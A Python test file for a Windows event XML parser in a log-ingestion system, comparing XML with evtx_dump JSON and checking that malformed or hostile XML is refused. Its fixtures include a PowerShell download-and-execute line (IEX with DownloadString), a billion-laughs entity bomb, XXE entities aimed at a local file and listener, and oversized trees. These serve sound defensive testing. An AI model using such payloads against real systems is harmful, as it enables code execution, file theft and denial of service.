"""Windows event XML: the same event as XML and as evtx_dump JSON gives the same normalised event."""

from __future__ import annotations

import re
import socket
import threading
import tracemalloc
from pathlib import Path

import orjson
import pytest
from evtx import PyEvtxParser

from ingest.parsers.base import ParseContext, ParseError
from ingest.parsers.syslog import SyslogParser
from ingest.parsers.windows_xml import MAX_DEPTH, WindowsXmlParser, is_event_xml
from ingest.registry import default_registry
from tests.ingest.parsers.windows_xml_render import STYLES, render

FIXTURES = Path(__file__).parent / "fixtures" / "windows"
XML = WindowsXmlParser()
EVTX_JSON = default_registry().get("evtx_json")


def parse_xml(text: str):
    (event,) = XML.parse(text, ParseContext(origin="x"))
    return event


def parse_json(record: dict):
    (event,) = EVTX_JSON.parse(record, ParseContext(origin="x"))
    return event


def as_text(fields: dict) -> dict:
    """Fields as text: XML holds every value as text where evtx_dump types numbers and booleans,
    and an XML parser reads CR LF in a value as LF (XML 1.0, 2.11)."""
    return {
        key: (str(value).lower() if isinstance(value, bool) else str(value)).replace("\r\n", "\n")
        for key, value in fields.items()
    }


def same_event(xml_event, json_event) -> None:
    assert (xml_event.kind, xml_event.ts, xml_event.host) == (json_event.kind, json_event.ts, json_event.host)
    if xml_event.kind == "windows:other":
        # unmapped event data is kept as written: text in XML (as Winlogbeat's), typed in evtx_dump
        assert as_text(xml_event.fields) == as_text(json_event.fields)
    else:
        assert xml_event.fields == json_event.fields


def evtx_pairs(corpus: Path) -> list[tuple[str, str, dict]]:
    """(file, XML, evtx_dump JSON) of every record of the corpus' EVTX files, both rendered by
    the ``evtx`` library from the same binary record."""
    pairs = []
    for path in sorted(corpus.rglob("*.evtx")):
        xml = [item["data"] for item in PyEvtxParser(str(path)).records()]
        dumped = [orjson.loads(item["data"]) for item in PyEvtxParser(str(path)).records_json()]
        assert len(xml) == len(dumped)
        pairs += [(path.name, text[text.index("<Event"):], record) for text, record in zip(xml, dumped, strict=True)]
    return pairs


def test_every_corpus_evtx_record_reads_the_same_as_xml_and_as_evtx_dump(corpus):
    pairs = evtx_pairs(corpus)
    kinds = set()
    for _name, xml, record in pairs:
        xml_event, json_event = parse_xml(xml), parse_json(record)
        same_event(xml_event, json_event)
        assert xml_event.source == "windows_xml"
        kinds.add((json_event.fields["event.code"], xml_event.kind))
    assert len(pairs) == 136
    # Sysmon 1 (process), 3, 10, 11, 13, 18, PowerShell 4104, 1102 (UserData), 4663/5156 (unmapped)
    codes = {code for code, _ in kinds}
    assert {1, 3, 10, 11, 13, 18, 4104, 1102, 4663, 5156} <= {int(code) for code in codes}
    assert ("4104", "powershell:script_block") in {(str(c), k) for c, k in kinds}


def test_sigma_evtx_dump_files_read_the_same_as_the_xml_of_their_evtx(corpus):
    # the .json beside each .evtx is the evtx_dump tool's own output, not this library's
    checked = 0
    for dumped in sorted((corpus / "sigma-regression").rglob("*.json")):
        (text,) = [item["data"] for item in PyEvtxParser(str(dumped.with_suffix(".evtx"))).records()]
        xml_event = parse_xml(text[text.index("<Event"):])
        json_event = parse_json(orjson.loads(dumped.read_bytes()))
        # that tool trimmed a value's trailing space ('"C:\...\cmd.exe" ' in the binary record,
        # which this library's XML and JSON both keep): compared without it
        assert (xml_event.kind, xml_event.ts, xml_event.host) == (json_event.kind, json_event.ts, json_event.host)
        assert {k: str(v).strip() for k, v in xml_event.fields.items()} == {
            k: str(v).strip() for k, v in json_event.fields.items()}
        assert xml_event.kind == "sysmon:process_create" and xml_event.fields["process.command_line"]
        checked += 1
    assert checked == 2


@pytest.mark.parametrize("style", STYLES)
def test_fixture_events_read_the_same_in_each_tool_s_xml(style):
    records = [orjson.loads(line) for line in (FIXTURES / "evtx_dump.ndjson").read_bytes().splitlines()]
    kinds = []
    for record in records:
        xml_event, json_event = parse_xml(render(record, style)), parse_json(record)
        same_event(xml_event, json_event)
        kinds.append(xml_event.kind)
    # Sysmon 1, 4624, 4688, 4104 mapped, 7036 not
    assert kinds.count("windows:other") == 1 and "sysmon:process_create" in kinds
    assert "powershell:script_block" in kinds and "winsec:process_create" in kinds


def test_a_4688_as_xml_keeps_its_process_and_parent():
    record = next(orjson.loads(line) for line in (FIXTURES / "evtx_dump.ndjson").read_bytes().splitlines()
                  if b'"EventID":4688' in line)
    event = parse_xml(render(record, "wevtutil"))
    assert event.fields == parse_json(record).fields
    assert event.fields["process.executable"] and event.fields["process.parent.executable"]


def test_wevtutil_seven_digit_fraction_dates_the_event_as_six():
    record = orjson.loads((FIXTURES / "evtx_dump.ndjson").read_bytes().splitlines()[2])
    text = render(record, "wevtutil")
    seven = re.sub(r"SystemTime='([^']*\.\d{6})Z'", r"SystemTime='\g<1>0Z'", text)
    assert seven != text and ".2500000Z'" in seven
    assert parse_xml(seven).ts == parse_xml(text).ts == parse_json(record).ts


def test_rendering_info_message_is_kept_for_unmapped_events_only():
    records = [orjson.loads(line) for line in (FIXTURES / "evtx_dump.ndjson").read_bytes().splitlines()]
    events = [parse_xml(render(record, "wevtutil", message="The service entered the running state."))
              for record in records]
    assert [e.fields.get("message") for e in events if e.kind == "windows:other"] == [
        "The service entered the running state."]
    assert all("message" not in e.fields for e in events if e.kind != "windows:other")


SYSTEM = ("<System><Provider Name='Service Control Manager'/><EventID Qualifiers='16384'>7045</EventID>"
          "<TimeCreated SystemTime='2024-03-05T10:00:00.0000000Z'/><Execution ProcessID='640' ThreadID='7'/>"
          "<Channel>System</Channel><Computer>WS-0042.corp.example</Computer>"
          "<Security UserID='S-1-5-21-1-2-3-500'/></System>")


def test_unnamed_data_are_numbered_as_evtx_dump_s():
    text = (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>{SYSTEM.replace('7045', '7036')}"
            "<EventData><Data>Windows Update</Data><Data>running</Data><Binary>770075006100</Binary></EventData>"
            "</Event>")
    event = parse_xml(text)
    assert event.kind == "windows:other"
    assert (event.fields["winlog.event_data.Data1"], event.fields["winlog.event_data.Data2"]) == (
        "Windows Update", "running")
    assert event.fields["event.code"] == "7036" and event.host == "ws-0042"


def test_named_data_with_binary_keep_the_binary_as_event_data():
    text = (f"<Event>{SYSTEM.replace('7045', '7040')}<EventData><Data Name='param1'>BITS</Data>"
            "<Binary>4200490054005300</Binary></EventData></Event>")
    fields = parse_xml(text).fields
    assert fields["winlog.event_data.param1"] == "BITS"
    assert fields["winlog.event_data.Binary"] == "4200490054005300"


def test_user_data_fields_are_the_event_data():
    text = ("<Event><System><EventID>1102</EventID><TimeCreated SystemTime='2019-03-19T23:35:07.524202Z'/>"
            "<Channel>Security</Channel><Computer>PC01.example.corp</Computer></System>"
            "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>"
            "<SubjectUserName>user01</SubjectUserName><SubjectDomainName>EXAMPLE</SubjectDomainName>"
            "</LogFileCleared></UserData></Event>")
    json_record = {"Event": {"System": {"EventID": 1102, "Channel": "Security", "Computer": "PC01.example.corp",
                                        "TimeCreated": {"#attributes": {"SystemTime": "2019-03-19T23:35:07.524202Z"}}},
                             "UserData": {"LogFileCleared": {"SubjectUserName": "user01",
                                                             "SubjectDomainName": "EXAMPLE"}}}}
    same_event(parse_xml(text), parse_json(json_record))


def test_execution_process_id_is_the_powershell_pid_of_a_4104():
    text = ("<Event><System><EventID>4104</EventID><TimeCreated SystemTime='2024-03-05T10:00:00Z'/>"
            "<Execution ProcessID='6620' ThreadID='6340'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel>"
            "<Computer>WS-1</Computer><Security UserID='S-1-5-21-9'/></System><EventData>"
            "<Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data>"
            "<Data Name='ScriptBlockText'>IEX (New-Object Net.WebClient).DownloadString('http://x/a')</Data>"
            "<Data Name='ScriptBlockId'>fdd51159-9602-40cb-839d-c31039ebbc3a</Data><Data Name='Path'/>"
            "</EventData></Event>")
    event = parse_xml(text)
    assert event.kind == "powershell:script_block" and event.fields["process.pid"] == 6620
    # the writer's identity is not mapped to a user (Sysmon writes every event as SYSTEM)
    assert "user.id" not in event.fields


def test_pretty_printed_and_compact_xml_give_the_same_event():
    record = orjson.loads((FIXTURES / "evtx_dump.ndjson").read_bytes().splitlines()[0])
    assert parse_xml(render(record, "pretty")).fields == parse_xml(render(record, "wevtutil")).fields


def test_comments_and_cdata_read_through_defusedxml_give_the_event_the_c_parser_gives():
    # text without "<!" takes the C parser, text with a comment or CDATA defusedxml's: same event
    record = orjson.loads((FIXTURES / "evtx_dump.ndjson").read_bytes().splitlines()[0])
    compact = render(record, "wevtutil")
    assert "<!" not in compact
    commented = compact.replace("<System>", "<!-- forwarded --><System>", 1)
    commented = commented.replace("</Event>", "<![CDATA[]]></Event>", 1)
    assert parse_xml(commented).fields == parse_xml(compact).fields


@pytest.mark.parametrize(("text", "reason"), [
    ("<Event><System><EventID>1</EventID>", "not well formed"),
    ("<Event><EventData/></Event>", "no <System>"),
    ("<Event><System><Channel>Security</Channel></System></Event>", "no usable event id"),
    ("<Event><System><EventID>4688</EventID><Channel>Security</Channel></System></Event>", "timestamp"),
    ("<Event><System><EventID>1</EventID></System>&undeclared;</Event>", "undeclared entity"),
])
def test_bad_xml_events_are_rejected_with_their_reason(text, reason):
    with pytest.raises(ParseError, match=reason):
        parse_xml(text)


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE Event [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">' for n in range(1, 10))
    + "]><Event><System><EventID>1</EventID><Computer>&lol9;</Computer></System></Event>"
)


def test_a_billion_laughs_event_is_refused_before_any_expansion():
    with pytest.raises(ParseError, match=r"DTD \(<!DOCTYPE Event>\): refused"):
        XML_parse_anything(BILLION_LAUGHS)
    # inside an <Event> a DTD is not even well formed; unwrapped it is refused as a DTD
    with pytest.raises(ParseError, match="DTD|not well formed"):
        parse_xml("<Event>" + BILLION_LAUGHS.split("?>", 1)[1] + "</Event>")


def XML_parse_anything(text: str):  # noqa: N802 - the parser's own XML step, for texts that are not records
    from ingest.parsers.windows_xml import parse_event_xml

    return parse_event_xml(text)


def test_an_external_entity_is_refused_and_never_fetched(tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    connections = []

    def accept() -> None:
        try:
            connections.append(listener.accept())
        except OSError:
            pass

    waiter = threading.Thread(target=accept)
    waiter.start()
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    for target in (f"http://127.0.0.1:{port}/x.dtd", secret.as_uri()):
        document = (f'<!DOCTYPE Event [<!ENTITY xxe SYSTEM "{target}">]>'
                    "<Event><System><EventID>1</EventID><Computer>&xxe;</Computer></System></Event>")
        with pytest.raises(ParseError, match="refused") as caught:
            XML_parse_anything(document)
        assert "TOP-SECRET" not in str(caught.value)
    waiter.join()
    listener.close()
    assert connections == []


def test_nesting_past_the_limit_is_rejected_not_walked():
    deep = "<a>" * (MAX_DEPTH + 5) + "</a>" * (MAX_DEPTH + 5)
    text = f"<Event><System><EventID>1</EventID></System><UserData>{deep}</UserData></Event>"
    with pytest.raises(ParseError, match="nested deeper"):
        parse_xml(text)


def test_syslog_and_xml_sniffs_are_disjoint(corpus):
    syslog = SyslogParser()
    lines = (corpus / "loghub" / "Linux_2k.log").read_text(errors="replace").splitlines()
    assert not any(is_event_xml(line) for line in lines)
    assert not syslog.sniff("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>")
    assert not syslog.sniff("<Events>") and not is_event_xml("<Events>") and not is_event_xml("<EventData>")
    assert default_registry().detect("<Event><System/></Event>").name == "windows_xml"
    assert default_registry().detect("<34>Oct 11 22:14:15 mymachine su: 'su root' failed").name == "syslog"


@pytest.mark.parametrize("inside", [
    "<a/>" * 1_000_000,  # 4 MB of empty elements: 235 MB of tree before
    "<a>" * 460_000 + "</a>" * 460_000,  # nesting 460k deep: 151 MB before MAX_DEPTH fired
])
def test_a_tree_past_the_tag_limit_is_refused_before_it_is_built(inside: str) -> None:
    from ingest.parsers.windows_xml import parse_event_xml

    text = f"<Event><System><EventID>1</EventID></System><UserData>{inside}</UserData></Event>"
    tracemalloc.start()
    try:
        with pytest.raises(ParseError, match="tags, over the limit of"):
            parse_event_xml(text)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 1 << 20


def test_an_event_with_many_data_elements_under_the_tag_limit_is_read() -> None:
    from ingest.parsers.windows_xml import MAX_TAGS, parse_event_xml

    count = MAX_TAGS // 2 - 20
    data = "".join(f'<Data Name="k{n}">v{n}</Data>' for n in range(count))
    text = (f"<Event><System><Provider Name='x'/><EventID>9999</EventID><TimeCreated "
            f"SystemTime='2024-03-05T10:00:00.000Z'/><Computer>ws-1</Computer></System><EventData>{data}</EventData></Event>")
    assert len(parse_event_xml(text).find("EventData")) == count
    assert parse_xml(text).fields["winlog.event_data.k5"] == "v5"


@pytest.mark.parametrize("comment", ["", "<!-- read by defusedxml -->"])
def test_a_lone_surrogate_is_a_parse_error(comment: str) -> None:
    # e.g. a Splunk or JSON wrapper's "\ud800" in the XML text
    with pytest.raises(ParseError, match="lone surrogate"):
        parse_xml(f"<Event>{comment}<System><EventID>1</EventID><Computer>PC-\ud800</Computer></System></Event>")
